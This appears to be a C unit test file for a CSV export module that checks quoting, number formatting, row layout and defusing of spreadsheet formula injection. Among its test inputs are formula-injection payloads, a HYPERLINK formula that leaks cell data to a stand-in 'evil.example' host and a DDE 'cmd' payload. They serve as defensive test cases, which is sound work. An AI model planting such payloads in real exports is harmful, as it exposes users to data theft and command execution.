#include "first.h"
#include "tap.h"
#include "buf.h"
#include "csv.h"

#include <jansson.h>
#include <string.h>

/* The CSV of a JSON array text with these columns, or "(error)" / "(bad JSON)". */
static const char *csv_of(const char *rows_json, const char *const *columns, size_t n, int precision)
{
    static tly_buf out;
    tly_buf_reset(&out);
    json_error_t jerr;
    json_t *rows = json_loads(rows_json, JSON_DECODE_ANY, &jerr);
    if (!rows) return "(bad JSON)";
    int rc = tly_csv_from_rows(rows, columns, n, precision, &out);
    json_decref(rows);
    return rc == 0 ? tly_buf_cstr(&out) : "(error)";
}

/* One string cell as tly_csv_append_field writes it. */
static const char *field(const char *s, size_t len)
{
    static tly_buf out;
    tly_buf_reset(&out);
    tly_csv_append_field(&out, s, len);
    return tly_buf_cstr(&out);
}
#define FIELD(s) field((s), strlen(s))

static void test_fields(void)
{
    CHECK_STR(FIELD("plain"), "plain");
    CHECK_STR(FIELD(""), "");
    CHECK_STR(FIELD("/blog/post-1"), "/blog/post-1");
    CHECK_STR(FIELD("with space"), "with space");
    CHECK_STR(FIELD("a,b"), "\"a,b\"");
    CHECK_STR(FIELD("say \"hi\""), "\"say \"\"hi\"\"\"");
    CHECK_STR(FIELD("\""), "\"\"\"\"");
    CHECK_STR(FIELD("\"\""), "\"\"\"\"\"\"");
    CHECK_STR(FIELD("line1\nline2"), "\"line1\nline2\"");
    CHECK_STR(FIELD("line1\r\nline2"), "\"line1\r\nline2\"");
    CHECK_STR(FIELD("cr\ronly"), "\"cr\ronly\"");
    CHECK_STR(FIELD("end,"), "\"end,\"");
    CHECK_STR(FIELD("semi;colon"), "semi;colon");
    CHECK_STR(FIELD("tab\tinside"), "tab\tinside");
    CHECK_STR(FIELD("it's"), "it's");
    CHECK_STR(FIELD("M\xc3\xbcnchen"), "M\xc3\xbcnchen");
    /* The length bounds the text. */
    CHECK_STR(field("a,b", 1), "a");
    CHECK_STR(field(NULL, 0), "");

    /* Formula injection: =, +, -, @, TAB and CR at the start get an apostrophe. */
    CHECK_STR(FIELD("=1+2"), "'=1+2");
    CHECK_STR(FIELD("=HYPERLINK(\"http://evil.example/?\"&A1)"),
              "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"");
    CHECK_STR(FIELD("+1"), "'+1");
    CHECK_STR(FIELD("-1"), "'-1");
    CHECK_STR(FIELD("-"), "'-");
    CHECK_STR(FIELD("@SUM(A1:A9)"), "'@SUM(A1:A9)");
    CHECK_STR(FIELD("\t=cmd"), "'\t=cmd");
    CHECK_STR(FIELD("\r=cmd"), "\"'\r=cmd\"");
    CHECK_STR(FIELD("=a,b"), "\"'=a,b\"");
    CHECK_STR(FIELD("-2+3,\"x\"\n"), "\"'-2+3,\"\"x\"\"\n\"");
    /* Only the first character matters. */
    CHECK_STR(FIELD("a=1"), "a=1");
    CHECK_STR(FIELD(" =1"), " =1");
    CHECK_STR(FIELD("\n=1"), "\"\n=1\"");
    CHECK_STR(FIELD("'=1"), "'=1");
    CHECK_STR(FIELD("1-2"), "1-2");
    CHECK_STR(FIELD("%2D1"), "%2D1");
}

static const char *value(const char *json, int precision)
{
    static tly_buf out;
    tly_buf_reset(&out);
    json_error_t jerr;
    json_t *v = json_loads(json, JSON_DECODE_ANY, &jerr);
    if (!v) return "(bad JSON)";
    tly_csv_append_value(&out, v, precision);
    json_decref(v);
    return tly_buf_cstr(&out);
}

static void test_values(void)
{
    CHECK_STR(value("0", 0), "0");
    CHECK_STR(value("42", 0), "42");
    CHECK_STR(value("-7", 0), "-7");   /* numbers are data, never defused */
    CHECK_STR(value("9223372036854775807", 0), "9223372036854775807");
    CHECK_STR(value("-9223372036854775808", 0), "-9223372036854775808");
    CHECK_STR(value("1.5", 0), "1.5");
    CHECK_STR(value("3.0", 0), "3.0");
    CHECK_STR(value("42.3", 0), "42.299999999999997");   /* Jansson's default: 17 digits */
    CHECK_STR(value("42.3", 15), "42.3");
    CHECK_STR(value("0.1", 15), "0.1");
    CHECK_STR(value("-0.5", 15), "-0.5");
    CHECK_STR(value("33.333333333333336", 15), "33.3333333333333");
    CHECK_STR(value("33.333333333333336", 3), "33.3");
    CHECK_STR(value("1234.5", 3), "1.23e3");   /* as Jansson writes exponents */
    CHECK_STR(value("1e300", 15), "1e300");
    CHECK_STR(value("42.3", 99), "42.299999999999997");   /* out of range: the default */
    CHECK_STR(value("42.3", -1), "42.299999999999997");
    CHECK_STR(value("true", 0), "true");
    CHECK_STR(value("false", 0), "false");
    CHECK_STR(value("null", 0), "");
    CHECK_STR(value("\"text\"", 0), "text");
    CHECK_STR(value("\"-1\"", 0), "'-1");   /* a string that looks like a number is still a string */
    CHECK_STR(value("{\"EUR\":49.9,\"USD\":10}", 15), "\"{\"\"EUR\"\":49.9,\"\"USD\"\":10}\"");
    CHECK_STR(value("[1,2]", 0), "\"[1,2]\"");
    CHECK_STR(value("[]", 0), "[]");
    CHECK_STR(value("{}", 0), "{}");
    /* A missing value. */
    tly_buf out = {0};
    tly_csv_append_value(&out, NULL, 0);
    CHECK_INT(out.len, 0);
    tly_buf_free(&out);
}

static void test_rows(void)
{
    static const char *const cols[] = {"path", "pageviews", "unique_visitors"};
    CHECK_STR(csv_of("[{\"path\":\"/\",\"pageviews\":10,\"unique_visitors\":7},"
                     "{\"path\":\"/pricing\",\"pageviews\":3,\"unique_visitors\":3}]",
                     cols, 3, 0),
              "path,pageviews,unique_visitors\r\n/,10,7\r\n/pricing,3,3\r\n");
    /* No rows: only the header. */
    CHECK_STR(csv_of("[]", cols, 3, 0), "path,pageviews,unique_visitors\r\n");
    /* Column order is the caller's, not the object's; extra keys are left out. */
    static const char *const swapped[] = {"unique_visitors", "path"};
    CHECK_STR(csv_of("[{\"path\":\"/a\",\"pageviews\":1,\"unique_visitors\":2,\"x\":9}]", swapped, 2, 0),
              "unique_visitors,path\r\n2,/a\r\n");
    /* Missing and null values are empty cells. */
    CHECK_STR(csv_of("[{\"path\":\"/a\"},{\"pageviews\":null,\"unique_visitors\":1},{}]", cols, 3, 0),
              "path,pageviews,unique_visitors\r\n/a,,\r\n,,1\r\n,,\r\n");
    /* Quoting and defusing inside rows. */
    static const char *const two[] = {"source", "bounce_rate"};
    CHECK_STR(csv_of("[{\"source\":\"Google, Inc.\",\"bounce_rate\":42.3},"
                     "{\"source\":\"=cmd|' /C calc'!A0\",\"bounce_rate\":0},"
                     "{\"source\":\"a\\\"b\\nc\",\"bounce_rate\":100.0},"
                     "{\"source\":\"@x\",\"bounce_rate\":-1.5}]",
                     two, 2, 15),
              "source,bounce_rate\r\n"
              "\"Google, Inc.\",42.3\r\n"
              "'=cmd|' /C calc'!A0,0\r\n"
              "\"a\"\"b\nc\",100.0\r\n"
              "'@x,-1.5\r\n");
    /* Header names are quoted and defused like values. */
    static const char *const odd[] = {"prop:a,b", "-x", "q\"", NULL};
    CHECK_STR(csv_of("[{\"prop:a,b\":1,\"-x\":2,\"q\\\"\":3}]", odd, 4, 0),
              "\"prop:a,b\",'-x,\"q\"\"\",\r\n1,2,3,\r\n");
    /* A row of one empty cell is written as "" so that it is not an empty line. */
    static const char *const one[] = {"path"};
    CHECK_STR(csv_of("[{\"path\":\"/\"},{\"path\":\"\"},{},{\"path\":null}]", one, 1, 0),
              "path\r\n/\r\n\"\"\r\n\"\"\r\n\"\"\r\n");
    /* Nested values as JSON text. */
    static const char *const rev[] = {"goal", "revenue"};
    CHECK_STR(csv_of("[{\"goal\":\"Purchase\",\"revenue\":{\"EUR\":49.9}}]", rev, 2, 15),
              "goal,revenue\r\nPurchase,\"{\"\"EUR\"\":49.9}\"\r\n");
    /* No columns at all. */
    CHECK_STR(csv_of("[{\"a\":1}]", NULL, 0, 0), "\r\n\r\n");

    /* Errors: not an array, a row that is not an object; out is left as it was. */
    CHECK_STR(csv_of("{\"path\":\"/\"}", cols, 3, 0), "(error)");
    CHECK_STR(csv_of("\"rows\"", cols, 3, 0), "(error)");
    CHECK_STR(csv_of("[{\"path\":\"/\"},[1]]", cols, 3, 0), "(error)");
    CHECK_STR(csv_of("[1]", cols, 3, 0), "(error)");
    tly_buf out = {0};
    tly_buf_append_str(&out, "kept");
    json_t *bad = json_loads("[{\"path\":\"/\"},null]", 0, NULL);
    CHECK_INT(tly_csv_from_rows(bad, cols, 3, 0, &out), -1);
    CHECK_STR(tly_buf_cstr(&out), "kept");
    CHECK_INT(tly_csv_from_rows(NULL, cols, 3, 0, &out), -1);
    CHECK_STR(tly_buf_cstr(&out), "kept");
    /* Appends after what the buffer holds. */
    json_t *good = json_loads("[{\"path\":\"/\"}]", 0, NULL);
    CHECK_INT(tly_csv_from_rows(good, one, 1, 0, &out), 0);
    CHECK_STR(tly_buf_cstr(&out), "keptpath\r\n/\r\n");
    json_decref(bad);
    json_decref(good);
    tly_buf_free(&out);

    /* Many rows. */
    json_t *rows = json_array();
    for (int i = 0; i < 1000; i++)
        json_array_append_new(rows, json_pack("{s:s, s:i}", "path", i % 2 ? "/odd" : "/even", "pageviews", i));
    tly_buf big = {0};
    CHECK_INT(tly_csv_from_rows(rows, cols, 3, 0, &big), 0);
    size_t lines = 0;
    for (size_t i = 0; i + 1 < big.len; i++)
        if (big.ptr[i] == '\r' && big.ptr[i + 1] == '\n') lines++;
    CHECK_INT(lines, 1001);
    CHECK(strstr(big.ptr, "\r\n/odd,999,\r\n") != NULL);
    json_decref(rows);
    tly_buf_free(&big);
}

static void run_tests(void)
{
    test_fields();
    test_values();
    test_rows();
}
